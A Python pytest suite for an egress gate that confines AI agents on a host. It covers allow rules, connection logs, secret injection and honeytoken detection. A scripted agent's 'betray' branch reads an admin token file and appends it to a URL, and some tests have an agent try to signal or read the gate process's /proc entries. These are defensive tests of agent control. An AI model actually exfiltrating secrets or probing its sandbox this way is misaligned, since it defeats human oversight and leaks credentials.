"""What agents of a real machine reach: nothing but what rules allow, through the gate, and each connection can be seen afterwards."""

from __future__ import annotations

import json

import pytest

from tests.guest.guest import Guest
from tests.host.cast import answer, birth, messages, ops, rest, say, status, until
from tests.host.world import WEB, open_world

GATE = "colony-egress.service"
BRAIN = "/opt/brains/traveller"
TRAVELS = """\
#!/usr/bin/python3 -I
import json, socket, sys, urllib.error, urllib.request
turn = json.load(sys.stdin)["turn"]
if turn["kind"] == "dream":
    sys.exit(print("HEARTBEAT_OK"))
words = turn["items"][-1]["message"]["body"].split()
try:
    match words[1:]:
        case ["get", url]:
            print(urllib.request.urlopen(url, timeout=10).read().decode())
        case ["connect", host, port]:
            socket.create_connection((host, int(port)), 5)
            print("reached")
        case ["betray", url]:
            print(urllib.request.urlopen(url + open("/run/secrets/colony-admin-token").read().strip(), timeout=10).read().decode())
        case ["interfaces"]:
            print(*(name for _, name in socket.if_nameindex()))
        case _:
            print("here I am")
except urllib.error.HTTPError as error:
    print(error.code, json.load(error).get("detail"))
except OSError as error:
    print(getattr(error, "reason", None) or error.strerror or error)
"""
SOUL = "/opt/brains/traveller.md"


@pytest.fixture(scope="module")
def host(shared_machine: Guest) -> Guest:
    """Scout lives here, and so does a web server with a name."""
    machine = shared_machine
    machine.write(BRAIN, TRAVELS, 0o755)
    machine.write(SOUL, f'---\nrunner: "command:{BRAIN}"\npulse_minutes: 0\n---\nYou travel.\n')
    machine.write("/etc/hosts", f"127.0.0.1 localhost\n{WEB} web.example www.web.example\n127.0.0.1 inside.example\n")
    open_world(machine)
    rest(machine, 0.2)
    birth(machine, "scout", soul=SOUL)
    return machine


def asked(host: Guest, words: str, agent: str = "scout") -> str:
    return answer(host, say(host, f"@{agent} {words}"))


def log(host: Guest, agent: str = "scout") -> list[dict[str, object]]:
    return list(json.loads(host.run("colony", "egress", "log", agent, "--json").stdout)["contacts"])


def test_what_no_rule_allows_is_refused_and_told(host: Guest) -> None:
    assert asked(host, "get http://www.web.example/") == "403 no rule allows it"
    until(lambda: log(host))
    contact = log(host)[0]
    assert (contact["host"], contact["port"], contact["verdict"]) == ("www.web.example", 80, "denied")
    assert contact["turn_id"]


def test_what_a_rule_allows_is_reached_and_the_first_time_is_news(host: Guest) -> None:
    host.run("colony", "egress", "allow", "scout", "web.example")
    message = say(host, "@scout get http://web.example/")
    assert answer(host, message) == "a page"
    assert asked(host, "get http://www.web.example/") == "403 no rule allows it"
    until(lambda: any("scout reaches web.example for the first time" in said for said in ops(host)))
    assert asked(host, "get http://web.example/") == "a page"
    until(lambda: sum(contact["verdict"] == "allowed" for contact in log(host)) >= 2)
    assert "allowed web.example:80" in host.run("colony", "explain", str(message)).stdout
    assert sum("for the first time" in said for said in ops(host)) == 1


def test_beside_the_gate_there_is_no_way(host: Guest) -> None:
    assert asked(host, "interfaces") == "lo"
    for address, port in ((WEB, 80), ("127.0.0.1", 8700), ("web.example", 80)):
        assert asked(host, f"connect {address} {port}") != "reached"


def test_a_name_that_leads_inside_is_refused_whatever_a_rule_says(host: Guest) -> None:
    host.run("colony", "egress", "allow", "scout", "inside.example:8700", "*")
    assert asked(host, "get http://inside.example:8700/healthz").startswith("403 inside.example is at 127.0.0.1")
    host.run("colony", "egress", "forget", "scout", "inside.example", "*")


def test_rules_are_for_one_agent_and_a_soul_brings_its_own(host: Guest) -> None:
    text = host.path(SOUL).read_text()
    host.write("/opt/brains/crow.md", text.replace("pulse_minutes: 0", "pulse_minutes: 0\negress: [www.web.example]"))
    birth(host, "crow", soul="/opt/brains/crow.md")
    assert asked(host, "get http://www.web.example/", "crow") == "a page"
    assert asked(host, "get http://web.example/", "crow") == "403 no rule allows it"
    assert "egress:\n- www.web.example\n" in host.run("colony-agent", "soul", "show", "crow").stdout
    host.run("colony-agent", "death", "crow", "--purge")


def test_a_gate_that_was_killed_is_there_again(host: Guest) -> None:
    host.run("colony", "egress", "allow", "scout", "web.example")
    host.run("systemctl", "kill", "--signal=KILL", GATE)
    until(lambda: host.unit(GATE, "ActiveState")["ActiveState"] == "active" and host.unit(GATE, "NRestarts")["NRestarts"] == "1")
    until(lambda: asked(host, "get http://web.example/") == "a page")


def test_without_a_gate_an_agent_waits_and_says_why_and_goes_on_once_it_is_back(host: Guest) -> None:
    host.run("colony", "egress", "allow", "scout", "web.example")
    host.run("systemctl", "stop", GATE)
    said = json.loads(host.run("colony-agent", "doctor", "--json", check=False).stdout)
    found = " ".join(finding["what"] for finding in said["findings"])
    assert "the gate does not answer" in found
    message = say(host, "@scout get http://web.example/")
    until(lambda: "egress gate" in status(host, "scout")["trouble"] or "egress gate" in host.run("colony", "explain", str(message)).stdout)
    host.run("systemctl", "start", GATE)
    host.run("colony-agent", "resume", "scout")
    assert answer(host, message) == "a page"
    assert json.loads(host.run("colony-agent", "doctor", "--json", check=False).stdout)["findings"] == []


def test_a_server_that_is_away_leaves_the_gate_with_what_it_knew(host: Guest) -> None:
    """The agent's turn is under way, and the rules are by heart."""
    host.run("colony", "egress", "allow", "scout", "web.example")
    before = host.unit(GATE, "MainPID")["MainPID"]
    host.run("systemctl", "restart", "colony-server")
    host.wait_until("colony", "whoami")
    assert asked(host, "get http://web.example/") == "a page"
    assert host.unit(GATE, "MainPID")["MainPID"] == before


def test_it_is_little_exposed_and_an_agent_can_neither_signal_nor_trace_it(host: Guest) -> None:
    exposed = host.run("systemd-analyze", "security", "--no-pager", GATE).stdout
    assert float(exposed.rpartition("exposure level for")[2].split(":")[1].split()[0]) <= 2.2
    pid = host.unit(GATE, "MainPID")["MainPID"]
    for command in (f"kill -0 {pid}", f"cat /proc/{pid}/environ", f"cat /proc/{pid}/maps"):
        assert host.run("sh", "-c", command, user="scout", check=False).returncode != 0


# Secrets

SITE = """
import http.server, ssl
class Site(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        told = self.headers.get("Authorization", "nothing").encode()
        self.send_response(200)
        self.send_header("Content-Length", str(len(told)))
        self.end_headers()
        self.wfile.write(told)
        open("/srv/told", "ab").write(told + b"\\n")
context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
context.load_cert_chain("/srv/api.pem")
server = http.server.ThreadingHTTPServer(("%s", 443), Site)
server.socket = context.wrap_socket(server.socket, server_side=True)
server.serve_forever()
"""
TOKEN = "ghp_of-ann-and-nobody-else"
PROVEN = """
openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:prime256v1 -nodes -days 2 -subj /CN=api.example \\
    -addext subjectAltName=DNS:api.example -keyout /srv/key.pem -out /usr/local/share/ca-certificates/api.crt
cat /srv/key.pem /usr/local/share/ca-certificates/api.crt > /srv/api.pem
update-ca-certificates
"""
USES = """\
#!/bin/sh
case "$(cat)" in *'"kind": "dream"'*) echo HEARTBEAT_OK; exit;; esac
echo "holds $TOKEN"
curl -sS -H "Authorization: Bearer $TOKEN" https://api.example/
echo
python3 -c 'import os, urllib.request as u
print(u.urlopen(u.Request("https://api.example/", headers={"Authorization": "token " + os.environ.get("TOKEN", "none")})).read().decode())'
"""


def test_a_secret_is_used_by_who_never_holds_it(host: Guest) -> None:
    host.write("/etc/hosts", f"127.0.0.1 localhost\n{WEB} web.example www.web.example api.example\n127.0.0.1 inside.example\n")
    host.run("sh", "-ec", PROVEN)
    host.write("/opt/site.py", SITE % WEB)
    host.run("systemd-run", "--unit=site", "--property=NetworkNamespacePath=/run/netns/world", "/usr/bin/python3", "/opt/site.py")
    host.run("systemctl", "restart", GATE)
    host.write("/opt/brains/user", USES, 0o755)
    host.write("/opt/brains/user.md", '---\nrunner: "command:/opt/brains/user"\npulse_minutes: 0\negress: [api.example]\n---\nYou use.\n')
    said = host.run("colony", "secret", "set", "TOKEN", "--host", "api.example", stdin=TOKEN + "\n").stdout
    assert said.startswith("agents: TOKEN, in the place of colony-secret-TOKEN-")
    host.wait_until("curl", "--fail", "--silent", "https://api.example/")
    birth(host, "magpie", soul="/opt/brains/user.md")
    held, curl, python = asked(host, "go", "magpie").splitlines()
    assert held.startswith("holds colony-secret-TOKEN-")
    assert (curl, python) == ("Bearer " + "*" * len(TOKEN), "token " + "*" * len(TOKEN))
    told = host.path("/srv/told").read_text().splitlines()
    assert [told[-2], told[-1]] == [f"Bearer {TOKEN}", f"token {TOKEN}"]
    until(lambda: [contact["reason"] for contact in log(host, "magpie")][:2] == ["with TOKEN"] * 2)
    assert host.run("grep", "-raFl", TOKEN, "/home/agents", "/var/lib/colony", "/var/log", "/run", check=False).stdout == ""
    assert TOKEN not in host.run("journalctl", "--boot").stdout


def test_the_token_of_a_service_opens_nothing_that_is_the_gates(host: Guest) -> None:
    host.run("colony-server", "user", "add", "prometheus", "--kind", "service")
    for name in ("prometheus", "colony-egress"):
        token = host.run("colony-server", "token", name).stdout.strip()
        asked = ("curl", "--silent", "--unix-socket", "/run/colony/api.sock", "--header", f"Authorization: Bearer {token}")
        assert '"code":"forbidden"' in host.run(*asked, "http://colony/api/egress/secrets").stdout
        assert "colony_turns_running" in host.run(*asked, "http://colony/metrics").stdout


def test_its_keys_can_be_others_at_any_time(host: Guest) -> None:
    assert host.run("stat", "--format=%U %a", "/var/lib/colony/secret-keys").stdout == "colony 600\n"
    assert host.run("colony-server", "secret-key", "rotate").stdout.startswith("1 secret is sealed with the new key k")
    assert host.run("stat", "--format=%U %a", "/var/lib/colony/secret-keys").stdout == "colony 600\n"
    host.run("systemctl", "restart", GATE)
    until(lambda: "*" * len(TOKEN) in asked(host, "go", "magpie"))
    host.run("colony", "secret", "rm", "TOKEN")
    held, _, python = asked(host, "go", "magpie").splitlines()
    assert (held.strip(), python) == ("holds", "token none")


def test_who_lets_its_honeytoken_go_is_stopped(host: Guest) -> None:
    birth(host, "jay", soul=SOUL)
    host.run("colony", "egress", "allow", "jay", "web.example")
    say(host, "@jay betray http://web.example/?found=")
    reason = "it was about to give away a token that lies in its sandbox to be stolen"
    until(lambda: any("jay could not answer" in message["body"] and reason in message["body"] for message in messages(host)))
    assert any("jay was about to give its honeytoken away in turn" in said for said in ops(host))
    until(lambda: status(host, "jay")["member"]["status"] == "paused")
    assert log(host, "jay")[0]["verdict"] == "denied"
    host.run("colony", "resume", "jay")
    assert asked(host, "get http://web.example/", "jay") == "a page"
